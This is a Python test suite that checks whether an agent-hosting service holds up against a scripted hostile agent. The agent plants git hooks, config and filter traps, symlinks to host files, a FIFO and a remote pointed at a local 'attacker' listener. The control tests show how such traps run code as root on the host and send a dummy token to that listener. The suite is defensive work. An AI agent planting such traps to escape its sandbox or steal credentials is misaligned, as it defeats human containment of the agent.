"""A hostile scripted agent (tests/hostile_agent.py) in the docker runtime: it does honest TDD
work and plants traps in the workspace. The service, root on the host, must never run,
follow or read them there; it must keep answering at once, with bounded memory and threads;
publishing must push from the service's own repository to the URL it stored, with the token
only there; and the honest work must still commit.

A trap that runs on the host leaves a marker file in a host directory that does not exist
inside the container. Each test checks that no marker appeared; the controls then prove the
traps are armed by doing on a copy of the workspace, on the host, what the service once did.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import os
import pty
import resource
import shutil
import stat
import subprocess
import tempfile
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from tests import fake_agent, hostile_agent
from tests.conftest import remove_project_containers
from tests.github_double import GitHubDouble
from tests.live import LiveServer
from tests.test_workflows import start_run, worktree

pytestmark = [pytest.mark.docker, pytest.mark.timeout(300)]

BASE_IMAGE = "agentdock-base:latest"
HOSTILE_AGENT = Path(__file__).with_name("hostile_agent.py")
FAKE_AGENT = Path(__file__).with_name("fake_agent.py")
GITHUB_TOKEN = "ghp_hostiledouble0123456789abcdef"
FINISHED = {"succeeded", "failed", "blocked", "cancelled"}
FLOOD_MIB = 100  # per gate run: red, green and refactor each print it (300 MiB in all)
RSS_GROWTH_LIMIT_KIB = 64 * 1024
THREAD_GROWTH_LIMIT = 8
HEALTH_LIMIT_S = 1.0
RUN_TIMEOUT_S = 150.0
# Room for the service's own growth under a limit on its address space: a service that
# reads /dev/zero through a link gets a MemoryError there instead of taking the machine.
ADDRESS_SPACE_HEADROOM = 4 << 30
HONEST_FILES = ["feature.py", "tests/test_feature.py"]
A_TRAPS = "hooks,hookspath,config,include,attributes,fifo,links,flood,swapper"
B_TRAPS = "hooks,hookspath,config,include,attributes,remote"


# --- the world around the service ----------------------------------------------------------------


@dataclass
class Request:
    method: str
    path: str
    authorization: str | None


class Attacker:
    """An HTTP listener on 127.0.0.1 that asks for Basic credentials (so git offers whatever
    it has) and records every request, proxied ones included."""

    def __init__(self) -> None:
        self.requests: list[Request] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:
                pass

            def _any(self) -> None:
                attacker.requests.append(Request(self.command, self.path, self.headers.get("Authorization")))
                length = int(self.headers.get("Content-Length") or 0)
                if length:
                    self.rfile.read(length)
                body = b"who are you?\n"
                self.send_response(401)
                self.send_header("WWW-Authenticate", 'Basic realm="attacker"')
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_PUT = do_HEAD = _any  # noqa: N815

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(target=self._server.serve_forever, name="attacker", daemon=True)
        self._thread.start()

    @property
    def url(self) -> str:
        host, port = self._server.server_address[:2]
        return f"http://{host!s}:{port}"

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(timeout=5)


class FifoProbe:
    """Notices anyone opening the workspace's FIFO for reading, in the container or on the
    host: a non-blocking open for writing succeeds only while a reader has it open (and lets
    that reader go on: it reads a line and then the end)."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.opened_at: list[float] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, name="fifo-probe", daemon=True)
        self._thread.start()

    def _watch(self) -> None:
        while not self._stop.wait(0.02):
            try:  # ENOENT before the agent makes it, ENXIO while nobody reads it
                fd = os.open(self.path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
            except OSError:
                continue
            try:
                if stat.S_ISFIFO(os.fstat(fd).st_mode):
                    self.opened_at.append(time.time())
                    with contextlib.suppress(OSError):
                        os.write(fd, b"the service opened a FIFO\n")
            finally:
                os.close(fd)

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)


def marker_dir() -> Path:
    """A world-writable directory of the host for the traps' markers, outside pytest's own
    (whose parents are 0700): whatever uid ran a trap on the host could leave its marker."""
    path = Path(tempfile.mkdtemp(prefix="agentdock-markers-", dir="/tmp"))
    path.chmod(0o777)
    return path


def markers_in(directory: Path) -> dict[str, str]:
    return {p.name: p.read_text(errors="replace")[:4000] for p in sorted(directory.iterdir())}


def clear(directory: Path) -> None:
    for path in directory.iterdir():
        path.unlink()


def threads_of(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("Threads:"):
            return int(line.split()[1])
    raise RuntimeError("no Threads line")


def limit_address_space(pid: int) -> None:
    size = 0
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmSize:"):
            size = int(line.split()[1]) * 1024
    limit = size + ADDRESS_SPACE_HEADROOM
    resource.prlimit(pid, resource.RLIMIT_AS, (limit, limit))


# --- fixtures ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def github(tmp_path_factory: pytest.TempPathFactory) -> Iterator[GitHubDouble]:
    double = GitHubDouble(tmp_path_factory.mktemp("github"), GITHUB_TOKEN).start()
    try:
        yield double
    finally:
        double.stop()


@pytest.fixture(scope="module")
def server(
    docker_available: None, github: GitHubDouble, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[LiveServer]:
    live = LiveServer(
        tmp_path_factory.mktemp("hostile"),
        runtime="docker",
        image=BASE_IMAGE,
        extra_env={
            "AGENTDOCK_WORKFLOW_MIN_IDLE_S": "1",
            "AGENTDOCK_GITHUB_TOKEN": GITHUB_TOKEN,
            "AGENTDOCK_GITHUB_API_URL": github.api_url,
        },
    )
    live.start()
    limit_address_space(live.pid)
    try:
        yield live
    finally:
        live.stop()
        asyncio.run(remove_project_containers(live.project_ids))


@pytest.fixture(scope="module")
def host_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A root-owned file of the host, outside every workspace, among others whose names the
    agent knows too: it links to the file and swaps directories for links to the directory."""
    directory = tmp_path_factory.mktemp("host-files")
    for name in hostile_agent.filler_names():
        (directory / name).touch()
    path = directory / "secret.txt"
    path.write_text("the host's, not the agent's\n")
    path.chmod(0o640)
    os.chown(path, 0, 0)
    return path


# --- runs ----------------------------------------------------------------------------------------


async def hostile_project(
    server: LiveServer, client: httpx.AsyncClient, label: str, traps: str, markers: Path, *extra: str, **body: Any
) -> dict[str, Any]:
    command = [
        "python3",
        "/workspace/.hostile_agent.py",
        "--traps",
        traps,
        "--marker-dir",
        str(markers),
        *extra,
        "{prompt}",
    ]
    name = f"hostile-{label}-{uuid.uuid4().hex[:6]}"
    project = await server.project(client, name, template="python", agent_command=command, **body)
    workspace = Path(project["path"])
    owner = workspace.stat()
    for source, name in ((HOSTILE_AGENT, ".hostile_agent.py"), (FAKE_AGENT, ".fake_agent.py")):
        target = workspace / name
        shutil.copy(source, target)
        os.chown(target, owner.st_uid, owner.st_gid)
    with (workspace / ".git" / "info" / "exclude").open("a") as exclude:
        exclude.write(".hostile_agent.py\n.fake_agent.py\n.agent-prompts/\n")
    return project


async def wait_run(client: httpx.AsyncClient, run_id: str, timeout: float = RUN_TIMEOUT_S) -> dict[str, Any]:
    """The run once it has finished, or as it stands at the deadline (the tests say what is wrong)."""
    deadline = time.monotonic() + timeout
    run: dict[str, Any] = {"id": run_id, "state": "unknown", "steps": []}
    while True:
        with contextlib.suppress(httpx.HTTPError):
            run = (await client.get(f"/api/workflow-runs/{run_id}", timeout=10)).json()
        if run["state"] in FINISHED or time.monotonic() > deadline:
            return run
        await asyncio.sleep(0.25)


def step(run: dict[str, Any], name: str) -> dict[str, Any]:
    return next((s for s in run["steps"] if s["name"] == name), {})


async def health_latency(base: str) -> float:
    started = time.monotonic()
    try:
        async with httpx.AsyncClient(base_url=base, timeout=10) as client:
            response = await client.get("/api/health")
        if response.status_code != 200:
            return float("inf")
    except httpx.HTTPError:
        return float("inf")
    return time.monotonic() - started


@dataclass
class Watch:
    """What the service looked like while a run went on: health latencies, RSS, threads."""

    server: LiveServer
    latencies: list[float] = field(default_factory=list)
    rss_kib: list[int] = field(default_factory=list)
    threads: list[int] = field(default_factory=list)

    async def sample(self, stop: asyncio.Event) -> None:
        next_health = 0.0
        while not stop.is_set():
            with contextlib.suppress(OSError):
                self.rss_kib.append(self.server.rss_kib())
                self.threads.append(threads_of(self.server.pid))
            if time.monotonic() >= next_health:
                self.latencies.append(await health_latency(self.server.base))
                next_health = time.monotonic() + 0.25
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(stop.wait(), 0.05)


@dataclass
class TrappedRun:
    project: dict[str, Any]
    run: dict[str, Any]
    markers: Path
    found: dict[str, str]
    elapsed_s: float
    rss_base_kib: int
    threads_base: int
    during: Watch
    after_latencies: list[float]
    rss_after_kib: int
    threads_after: int
    fifo_opened_at: list[float]
    host_file_stat: os.stat_result
    host_file_text: str
    host_dir_owners: set[tuple[int, int]]

    @property
    def workspace(self) -> Path:
        return Path(self.project["path"])

    @property
    def worktree(self) -> Path:
        """Where the run (and so the agent) worked: its own git worktree in the workspace."""
        return worktree(self.project, self.run)


@pytest.fixture(scope="module")
def trapped(server: LiveServer, host_file: Path) -> Iterator[TrappedRun]:
    """One run with every trap of the workspace and the host (not the remote ones), watched."""
    markers = marker_dir()
    try:
        yield asyncio.run(_trapped_run(server, host_file, markers))
    finally:
        shutil.rmtree(markers, ignore_errors=True)


async def _trapped_run(server: LiveServer, host_file: Path, markers: Path) -> TrappedRun:
    async with server.client() as client:
        extra = ("--host-path", str(host_file), "--flood-mb", str(FLOOD_MIB))
        project = await hostile_project(server, client, "traps", A_TRAPS, markers, *extra)
        started = await client.post(f"/api/projects/{project['id']}/container/start")
        assert started.status_code == 200, started.text
        for _ in range(3):  # warm: the engine's connections, the executor, the database
            await health_latency(server.base)
            await client.get(f"/api/projects/{project['id']}")
        await asyncio.sleep(1)
        rss_base, threads_base = server.rss_kib(), threads_of(server.pid)
        probe: FifoProbe | None = None
        watch = Watch(server)
        stop = asyncio.Event()
        sampler = asyncio.create_task(watch.sample(stop))
        began = time.monotonic()
        try:
            run = await start_run(client, project)
            probe = FifoProbe(worktree(project, run) / hostile_agent.FIFO)
            done = await wait_run(client, run["id"])
        finally:
            elapsed = time.monotonic() - began
            stop.set()
            await sampler
            if probe is not None:
                probe.stop()
        after = [await health_latency(server.base) for _ in range(5)]
        await asyncio.sleep(1)
        found = markers_in(markers)  # before this test itself runs any git on the workspace
        host = host_file.stat()
        return TrappedRun(
            project=project,
            run=done,
            markers=markers,
            found=found,
            elapsed_s=elapsed,
            rss_base_kib=rss_base,
            threads_base=threads_base,
            during=watch,
            after_latencies=after,
            rss_after_kib=server.rss_kib(),
            threads_after=threads_of(server.pid),
            fifo_opened_at=probe.opened_at if probe is not None else [],
            host_file_stat=host,
            host_file_text=host_file.read_text(),
            host_dir_owners={(p.lstat().st_uid, p.lstat().st_gid) for p in host_file.parent.iterdir()},
        )


@dataclass
class PublishedRun:
    project: dict[str, Any]
    run: dict[str, Any]
    markers: Path
    found: dict[str, str]
    attacker: Attacker
    attacker_requests: list[Request]
    log_text: str

    @property
    def workspace(self) -> Path:
        return Path(self.project["path"])


@pytest.fixture(scope="module")
def published(server: LiveServer) -> Iterator[PublishedRun]:
    """A GitHub-published project whose agent points origin (url, pushurl, insteadOf, proxy,
    receivepack, helpers) at an attacker."""
    markers = marker_dir()
    attacker = Attacker()
    try:
        yield asyncio.run(_published_run(server, markers, attacker))
    finally:
        attacker.stop()
        shutil.rmtree(markers, ignore_errors=True)


async def _published_run(server: LiveServer, markers: Path, attacker: Attacker) -> PublishedRun:
    async with server.client() as client:
        extra = ("--attacker-url", attacker.url)
        project = await hostile_project(server, client, "publish", B_TRAPS, markers, *extra, github={"create": True})
        run = await start_run(client, project, task="add double(x)\n\nwith tests")
        done = await wait_run(client, run["id"])
    await asyncio.sleep(0.5)
    return PublishedRun(
        project=project,
        run=done,
        markers=markers,
        found=markers_in(markers),
        attacker=attacker,
        attacker_requests=list(attacker.requests),
        log_text=server.log_path.read_text(errors="replace"),
    )


# --- reading the workspace's repository, and the controls' git ------------------------------------


def clean_env(**extra: str) -> dict[str, str]:
    env = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("GIT_", "AGENTDOCK_")) and k not in ("SSH_ASKPASS", "PAGER", "EDITOR", "VISUAL")
    }
    env.update(
        GIT_TERMINAL_PROMPT="0",
        LC_ALL="C",
        GIT_AUTHOR_NAME="control",
        GIT_AUTHOR_EMAIL="control@example.invalid",
        GIT_COMMITTER_NAME="control",
        GIT_COMMITTER_EMAIL="control@example.invalid",
        **extra,
    )
    return env


def plumbing(workspace: Path, *args: str) -> str:
    """Read-only plumbing on a workspace's repository, with no work tree: nothing there
    runs (no hooks, no fsmonitor, no filters, no diff drivers)."""
    command = [
        "git",
        "-c",
        "safe.directory=*",
        "-c",
        "core.hooksPath=/dev/null",
        "-c",
        "core.fsmonitor=false",
        "--git-dir",
        str(workspace / ".git"),
        *args,
    ]
    return subprocess.run(command, capture_output=True, text=True, check=True, timeout=30, env=clean_env()).stdout


def host_git(copy: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """git on the host, as root, in a copy of a workspace: what the service used to do."""
    return subprocess.run(
        ["git", "-c", "safe.directory=*", "-C", str(copy), *args],
        capture_output=True,
        text=True,
        check=False,
        timeout=30,
        env=env or clean_env(),
        stdin=subprocess.DEVNULL,
    )


def host_git_on_a_tty(copy: Path, *args: str) -> None:
    main, secondary = pty.openpty()
    try:
        subprocess.run(
            ["git", "-c", "safe.directory=*", "-C", str(copy), *args],
            stdin=subprocess.DEVNULL,
            stdout=secondary,
            stderr=secondary,
            check=False,
            timeout=30,
            env=clean_env(TERM="xterm", PAGER="cat"),
        )
    finally:
        os.close(secondary)
        os.close(main)


def copy_workspace(workspace: Path, target: Path) -> Path:
    subprocess.run(["cp", "-a", str(workspace), str(target)], check=True, timeout=60)
    return target


def expect_markers(markers: Path, expected: set[str], when: str) -> dict[str, str]:
    found = markers_in(markers)
    missing = expected - found.keys()
    assert not missing, f"{when}: these traps did not fire on the host, so they are not armed: {sorted(missing)}"
    return found


# --- 1: every workspace trap, with honest work --------------------------------------------------


def test_honest_work_still_commits_among_the_traps(trapped: TrappedRun) -> None:
    run = trapped.run
    assert run["state"] == "succeeded", json.dumps(run, indent=1)[:4000]
    assert [s["state"] for s in run["steps"]] == ["passed"] * 4
    branch = f"agentdock/{run['id']}"
    assert run["branch"] == branch
    assert plumbing(trapped.workspace, "rev-parse", f"refs/heads/{branch}").strip() == run["commit_sha"]
    files = plumbing(trapped.workspace, "diff-tree", "-r", "--name-only", "--no-commit-id", run["commit_sha"])
    assert sorted(files.split()) == HONEST_FILES
    assert plumbing(trapped.workspace, "cat-file", "blob", f"{run['commit_sha']}:feature.py") == fake_agent.REFACTORED
    test_file = plumbing(trapped.workspace, "cat-file", "blob", f"{run['commit_sha']}:tests/test_feature.py")
    assert test_file == fake_agent.TEST  # the filters passed the content through, in the sandbox


def test_nothing_the_agent_planted_ran_or_was_followed_on_the_host(trapped: TrappedRun, host_file: Path) -> None:
    problems = []
    if trapped.found:
        ran = {name: text.splitlines()[0] for name, text in trapped.found.items()}
        problems.append(f"traps ran on the host (marker → its first line, `id`): {ran}")
    if trapped.fifo_opened_at:
        problems.append(f"the FIFO tests/fifo_trap was opened for reading {len(trapped.fifo_opened_at)} time(s)")
    host = trapped.host_file_stat
    if (host.st_uid, host.st_gid) != (0, 0):
        problems.append(f"the host file behind the swapped links now belongs to {host.st_uid}:{host.st_gid}")
    if stat.S_IMODE(host.st_mode) != 0o640 or trapped.host_file_text != "the host's, not the agent's\n":
        problems.append(f"the host file changed: mode {oct(host.st_mode)}, {trapped.host_file_text!r}")
    if trapped.host_dir_owners != {(0, 0)}:
        problems.append(f"files beside it have new owners: {sorted(trapped.host_dir_owners)}")
    assert not problems, "\n".join(problems)


def test_the_service_stayed_responsive_and_bounded(trapped: TrappedRun) -> None:
    during = trapped.during
    assert during.latencies, "no health sample was taken"
    print(  # shown with -s, or on a failure
        f"run of {trapped.elapsed_s:.1f} s: {len(during.latencies)} health checks, slowest "
        f"{max(during.latencies):.3f} s; RSS {trapped.rss_base_kib // 1024} MiB, at most "
        f"{max(during.rss_kib) // 1024} MiB, after {trapped.rss_after_kib // 1024} MiB; threads "
        f"{trapped.threads_base}, at most {max(during.threads)}, after {trapped.threads_after}"
    )
    slowest = max([*during.latencies, *trapped.after_latencies])
    assert slowest < HEALTH_LIMIT_S, f"GET /api/health took {slowest:.2f} s during or after the run"
    rss_growth = max([*during.rss_kib, trapped.rss_after_kib]) - trapped.rss_base_kib
    assert rss_growth < RSS_GROWTH_LIMIT_KIB, (
        f"the service's RSS grew by {rss_growth // 1024} MiB while {3 * FLOOD_MIB} MiB of test output went "
        f"through its gates (from {trapped.rss_base_kib // 1024} MiB)"
    )
    thread_growth = max([*during.threads, trapped.threads_after]) - trapped.threads_base
    assert thread_growth <= THREAD_GROWTH_LIMIT, (
        f"the service's threads went from {trapped.threads_base} to {max(during.threads)}, now {trapped.threads_after}"
    )
    # The control: the flood went through every gate (its lines end the green and refactor
    # outputs; red's ends with the failure), and the gates keep only a tail of it.
    gates = [step(trapped.run, name).get("gate") or {} for name in ("red", "green", "refactor")]
    assert all("flood flood" in (gate.get("output_tail") or "") for gate in gates[1:]), gates
    assert all(len(gate.get("output_tail") or "") <= 64 * 1024 for gate in gates)


# --- 4: controls: the traps of test 1 were armed ----------------------------------------------


def test_control_the_workspace_traps_are_armed(
    trapped: TrappedRun, host_file: Path, tmp_path: Path, server: LiveServer
) -> None:
    """What the service used to do, done on the host to a copy of the workspace: every trap
    fires. Then the markers go, so that they count for nothing else."""
    workspace, work = trapped.workspace, trapped.worktree
    # The swapper is still at it (one process since the red step, so through the commit too).
    state_path = work / hostile_agent.SWAPPER_STATE
    state = json.loads(state_path.read_text())
    assert state["target"] == str(host_file.parent)
    seen = set()
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and seen != {"dir", "link"}:
        for i in range(hostile_agent.SWAP_COUNT):
            swapped = work / hostile_agent.SWAP_DIR / f"d{i:02d}"
            with contextlib.suppress(OSError):
                if swapped.is_symlink() and os.readlink(swapped) == str(host_file.parent):
                    seen.add("link")
                elif stat.S_ISDIR(os.lstat(swapped).st_mode):
                    seen.add("dir")
        time.sleep(0.001)
    assert seen == {"dir", "link"}, f"the swapper left in the container is not swapping (seen: {seen})"
    assert json.loads(state_path.read_text())["pid"] == state["pid"]
    (work / hostile_agent.SWAPPER_STOP).touch()
    deadline = time.monotonic() + 10
    while not json.loads(state_path.read_text()).get("stopped"):
        assert time.monotonic() < deadline, "the swapper did not stop"
        time.sleep(0.1)

    # The snapshot's traps are in place: a FIFO and links, never regular files.
    assert stat.S_ISFIFO(os.lstat(work / hostile_agent.FIFO).st_mode)
    assert stat.S_ISLNK(os.lstat(work / hostile_agent.ZERO_LINK).st_mode)
    assert os.readlink(work / hostile_agent.ZERO_LINK) == "/dev/zero"
    assert os.readlink(work / hostile_agent.HOST_LINK) == str(host_file)
    assert (work / hostile_agent.FLOOD_TEST).is_file()

    markers = trapped.markers
    clear(markers)
    copy = copy_workspace(workspace, tmp_path / "copy")
    attacker = Attacker()
    try:
        # First with core.hooksPath, which hides .git/hooks …
        host_git(copy, "status")  # core.fsmonitor
        host_git(copy, "commit", "--allow-empty", "-m", "control")  # hooks, gpg.program
        tracked = host_git(copy, "ls-files", "*.py").stdout.split()[0]
        with (copy / tracked).open("a") as changed:
            changed.write("# control\n")
        host_git(copy, "diff")  # diff.external, from the included file
        host_git(copy, "diff", "--no-ext-diff")  # the diff driver's textconv
        host_git(copy, "add", tracked)  # the clean filter
        (copy / "README.md").write_text("control\n")
        host_git(copy, "add", "README.md")  # the process filter
        host_git_on_a_tty(copy, "log", "-1")  # core.pager
        host_git(copy, "ls-remote", "ssh://127.0.0.1/control.git")  # core.sshCommand, from the included file
        host_git(copy, "ls-remote", f"{attacker.url}/control.git")  # credential.helper, then core.askPass
        assert attacker.requests, "the control's ls-remote did not reach the listener"
        # … then the hooks of .git/hooks
        host_git(copy, "config", "--unset", "core.hooksPath")
        host_git(copy, "commit", "-m", "control 2")
        host_git(copy, "commit", "--amend")  # core.editor, post-rewrite
        host_git(copy, "switch", "-c", "control")  # post-checkout
        (copy / tracked).unlink()
        host_git(copy, "checkout", "--", tracked)  # the smudge filter
        bare = tmp_path / "control.git"
        subprocess.run(["git", "init", "--quiet", "--bare", str(bare)], check=True)
        host_git(copy, "push", str(bare), "HEAD:refs/heads/control")  # pre-push
        hooks = ("pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "reference-transaction")
        found = expect_markers(
            markers,
            {
                *(f"hookspath-{h}" for h in hooks),
                *(f"hook-{h}" for h in (*hooks, "post-rewrite", "post-checkout", "pre-push")),
                *hostile_agent.MARKERS["config"],
                *hostile_agent.MARKERS["include"],
                *hostile_agent.MARKERS["attributes"],
            },
            "git status, commit, diff, add, log, ls-remote, commit --amend, switch, checkout, push",
        )
        assert found["hook-pre-commit"].startswith("uid=0(root)")  # as the old service: root on the host
    finally:
        attacker.stop()
        clear(markers)


# --- 2: publishing never goes where the workspace says ----------------------------------------


def test_publishing_ignores_the_workspaces_remote_and_keeps_the_token(
    published: PublishedRun, github: GitHubDouble
) -> None:
    run = published.run
    problems = []
    if run["state"] != "succeeded":
        problems.append(f"the run ended {run['state']}: {run.get('reason')}")
    if published.attacker_requests:
        seen = [(r.method, r.path, r.authorization) for r in published.attacker_requests]
        problems.append(f"the attacker's listener was asked {len(seen)} time(s): {seen[:5]}")
    if published.found:
        problems.append(f"traps ran on the host: {sorted(published.found)}")
    with_token = sorted(name for name, text in published.found.items() if GITHUB_TOKEN in text)
    if with_token:
        problems.append(f"the GitHub token is in the environment of traps that ran on the host: {with_token}")
    if GITHUB_TOKEN in published.log_text:
        problems.append("the GitHub token is in the server's log")
    assert not problems, "\n".join(problems)

    branch = f"agentdock/{run['id']}"
    bare = github.bare_path(f"octocat/{published.project['name']}")
    pushed = subprocess.run(
        ["git", "--git-dir", str(bare), "rev-parse", f"refs/heads/{branch}"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert pushed.stdout.strip() == run["commit_sha"]
    files = subprocess.run(
        ["git", "--git-dir", str(bare), "diff-tree", "-r", "--name-only", "--no-commit-id", run["commit_sha"]],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    assert sorted(files) == HONEST_FILES
    assert [p["head"]["ref"] for p in github.pulls if p["head"]["ref"] == branch] == [branch]
    assert GITHUB_TOKEN.encode() not in b"".join(regular_files(published.workspace))


def regular_files(root: Path, limit: int = 1 << 20) -> Iterator[bytes]:
    """The contents of the regular files under ``root``: never a link, a FIFO or a device."""
    for top, dirs, files in os.walk(root):
        for name in [*dirs, *files]:
            path = Path(top) / name
            info = os.lstat(path)
            if stat.S_ISREG(info.st_mode):
                with path.open("rb") as handle:
                    yield handle.read(limit)


def test_control_the_remote_traps_are_armed(published: PublishedRun, github: GitHubDouble, tmp_path: Path) -> None:
    """The old publisher's push, done on the host from a copy of the workspace with a dummy
    secret: it goes to the attacker, and the traps run with the secret in their environment."""
    markers = published.markers
    clear(markers)
    copy = copy_workspace(published.workspace, tmp_path / "copy")
    attacker = published.attacker
    secret = f"control-secret-{uuid.uuid4().hex}"
    url = host_git(copy, "remote", "get-url", "origin").stdout.strip()
    assert url.startswith(attacker.url)
    parts = urlsplit(url)
    helper = (
        '!f() { test "$1" = get || exit 0; echo username=x-access-token; '
        'printf "password=%s\\n" "$AGENTDOCK_GIT_TOKEN"; }; f'
    )
    try:
        host_git(
            copy,
            "-c",
            "credential.helper=",
            "-c",
            f"credential.{parts.scheme}://{parts.netloc}.helper={helper}",
            "push",
            "--quiet",
            "origin",
            f"refs/heads/{published.run['branch'] or 'main'}:refs/heads/control",
            env=clean_env(AGENTDOCK_GIT_TOKEN=secret),
        )
        basic = base64.b64encode(f"x-access-token:{secret}".encode()).decode()
        assert any(r.authorization == f"Basic {basic}" for r in attacker.requests), attacker.requests
        found = expect_markers(markers, {"ext-transport", "receivepack"}, "git push origin")
        assert all(secret in found[name] for name in ("ext-transport", "receivepack"))
        # insteadOf (and http.proxy): the real clone URL leads to the attacker
        asked = len(attacker.requests)
        clone_url = github.repos[f"octocat/{published.project['name']}"]["clone_url"]
        host_git(copy, "ls-remote", clone_url)
        assert any("/insteadof/" in r.path for r in attacker.requests[asked:]), attacker.requests[asked:]
        expect_markers(markers, {"credential-helper", "credential-helper-url", "askpass"}, "git ls-remote")
        # uploadpack, where origin is a path
        bare = tmp_path / "control.git"
        subprocess.run(["git", "init", "--quiet", "--bare", str(bare)], check=True)
        host_git(copy, "push", str(bare), "HEAD:refs/heads/main")
        host_git(copy, "config", "remote.origin.url", str(bare))
        host_git(copy, "fetch", "origin")
        expect_markers(
            markers,
            {*hostile_agent.MARKERS["remote"], "credential-helper", "askpass", "hookspath-pre-push"},
            "git push origin, ls-remote, fetch origin",
        )
    finally:
        clear(markers)


# --- 3: a stale bytecode cache cannot pass a gate -------------------------------------------------


def test_stale_bytecode_does_not_pass_the_refactor_gate(server: LiveServer) -> None:
    markers = marker_dir()
    try:
        project, done, container = asyncio.run(_stale_run(server, markers))
    finally:
        shutil.rmtree(markers, ignore_errors=True)
    assert done["state"] == "failed", json.dumps(done, indent=1)[:4000]
    assert step(done, "green")["state"] == "passed"
    refactor = step(done, "refactor")
    assert refactor["state"] == "failed"
    assert refactor["gate"]["exit_code"] not in (0, None)
    assert "63 != 42" in refactor["gate"]["output_tail"]  # the broken code itself was judged
    assert done["branch"] is None

    workspace = worktree(project, done)
    # The control: the trap is armed. The cache holds the good code, stamped with the broken
    # file's size and modification time, and Python run there without a fresh prefix uses it.
    source = os.lstat(workspace / "feature.py")
    assert (workspace / "feature.py").read_text() == hostile_agent.BROKEN_IMPLEMENTATION
    caches = list((workspace / "__pycache__").glob("feature.*.pyc"))
    assert caches, "the agent's own test run left no bytecode"
    header = caches[0].read_bytes()[:16]
    assert int.from_bytes(header[8:12], "little") == int(source.st_mtime) & 0xFFFFFFFF
    assert int.from_bytes(header[12:16], "little") == source.st_size
    command = " ".join(hostile_agent.TEST_COMMAND[1:])
    there = f"cd .agentdock/worktrees/{done['id']} && "
    stale = docker_exec(container["id"], f"{there}python3 {command}")
    fresh = docker_exec(container["id"], f'{there}PYTHONPYCACHEPREFIX="$(mktemp -d)" python3 {command}')
    assert (stale.returncode, fresh.returncode) == (0, 1), (stale.stdout[-2000:], fresh.stdout[-2000:])


async def _stale_run(server: LiveServer, markers: Path) -> tuple[dict[str, Any], dict[str, Any], dict[str, Any]]:
    async with server.client() as client:
        project = await hostile_project(server, client, "stale", "stale-bytecode", markers)
        run = await start_run(client, project, max_attempts=1)
        done = await wait_run(client, run["id"])
        container = (await client.get(f"/api/projects/{project['id']}/container")).json()
        return project, done, container


def docker_exec(container_id: str, script: str) -> subprocess.CompletedProcess[str]:
    """Run ``script`` in the project's container as the agent (the sandbox: safe to run there)."""
    return subprocess.run(
        ["docker", "exec", "-u", "agent", "-w", "/workspace", container_id, "/bin/sh", "-c", script],
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
